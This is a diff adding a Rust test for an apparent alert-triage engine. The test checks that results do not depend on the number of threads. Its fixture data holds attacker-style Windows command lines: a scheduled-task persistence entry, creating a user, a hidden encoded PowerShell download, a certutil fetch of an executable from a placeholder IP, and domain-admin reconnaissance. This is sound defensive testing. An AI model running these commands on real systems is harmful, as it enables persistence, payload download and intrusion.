@@ -283,3 +283,51 @@ fn a_redelivered_alert_that_is_stored_is_neither_analysed_nor_audited_again() {
     let (late, dropped) = engine.triage_parsed(vec![(other[0].clone(), true)], &mut |_| {}).unwrap();
     assert_eq!((late.stored, dropped), (1, 0));
 }
+
+/// Screening and protection run on several cores at once; what the local
+/// analyzer remembers per host (weak signals that corroborate each other)
+/// depends on the order alerts reach it, so the results must not depend on
+/// the number of cores.
+#[test]
+fn the_results_are_the_same_on_one_core_and_on_several() {
+    let commands = [
+        "schtasks /create /tn t{} /tr c:\\t.exe /sc onlogon",
+        "cmd.exe /c net user x{} /add",
+        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA{}",
+        "certutil -urlcache -f http://198.51.100.7/{}.exe a.exe",
+        "whoami /all & net group \"domain admins\" /domain & nltest /dclist:{}",
+    ];
+    let mut input = String::new();
+    for i in 0..600usize {
+        let line = serde_json::json!({
+            "@timestamp": format!("2026-11-20T{:02}:{:02}:{:02}Z", i / 3600, (i / 60) % 60, i % 60),
+            "event.kind": "event",
+            "host.name": format!("ws-{:02}", (i * 7) % 9),
+            "user.name": format!("user{}", (i * 5) % 11),
+            "process.command_line": commands[(i * 3) % commands.len()].replace("{}", &i.to_string()),
+        });
+        input.push_str(&line.to_string());
+        input.push('\n');
+    }
+    let run = |threads: usize| {
+        let text = format!("[pipeline]\nbatch_size = 64\nthreads = {threads}\n");
+        let engine = Engine::in_memory(Config::parse(&text, "t", Vec::new()).unwrap()).unwrap();
+        let mut out = Vec::new();
+        engine
+            .triage(input.as_bytes(), "hosts.ndjson", None, &mut |e| {
+                if let Event::Alert(r) = e {
+                    out.push(serde_json::to_value(&*r).unwrap());
+                }
+            })
+            .unwrap();
+        out
+    };
+    let one = run(1);
+    assert_eq!(one.len(), 600);
+    assert!(
+        one.iter().any(|r| r["summary"].as_str().unwrap_or("").contains("Correlated:")),
+        "the input must make the analyzer's per-host memory matter"
+    );
+    assert_eq!(one, run(2), "two cores");
+    assert_eq!(one, run(3), "three shares on two cores");
+}
